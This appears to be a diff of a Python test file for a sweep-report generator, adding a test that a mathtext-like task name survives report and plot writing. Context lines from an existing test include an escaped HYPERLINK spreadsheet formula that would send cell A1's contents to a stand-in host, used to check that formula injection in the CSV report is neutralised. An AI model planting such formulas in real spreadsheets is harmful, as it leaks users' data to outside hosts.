@@ -435,3 +435,21 @@ def test_report_csv_carries_no_spreadsheet_formula_from_a_run(sweep, tmp_path):
     assert "'=HYPERLINK(\"http://x/?\"&A1)" in cells and "'+acc" in cells and "'-none" in cells, cells
     assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))
                 or (cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).replace("e", "").isdigit())]
+
+
+def test_a_name_that_reads_as_mathtext_is_drawn_as_written(sweep, tmp_path):
+    """A received run's task name holds "$x^$" (matplotlib's mathtext, unparsable): the sweep report is written,
+    its plot drawn with the name as text."""
+    import shutil
+
+    run = tmp_path / "run"
+    shutil.copytree(sweep["runs"][0], run)
+    results = json.loads((run / "results.json").read_text())
+    results["results"] = {"$x^$ \\frac{": {"alias": "t", "acc,none": 0.5, "acc_stderr,none": 0.1}}
+    (run / "results.json").write_text(json.dumps(results))
+    folder = tmp_path / "sweep"
+    for num, run_dir in ((0, sweep["runs"][0]), (1, run)):
+        write_point(folder / str(num), replace(record(num, "ok", run_dir), overrides=[f"seed={num}"]))
+    written = {p.name for p in write_report(folder, reference=0)}
+    assert {"report.csv", "report.md", "report.html", "scores.png"} <= written
+    assert "$x^$ \\frac{" in pd.read_csv(folder / "report.csv").task.tolist()
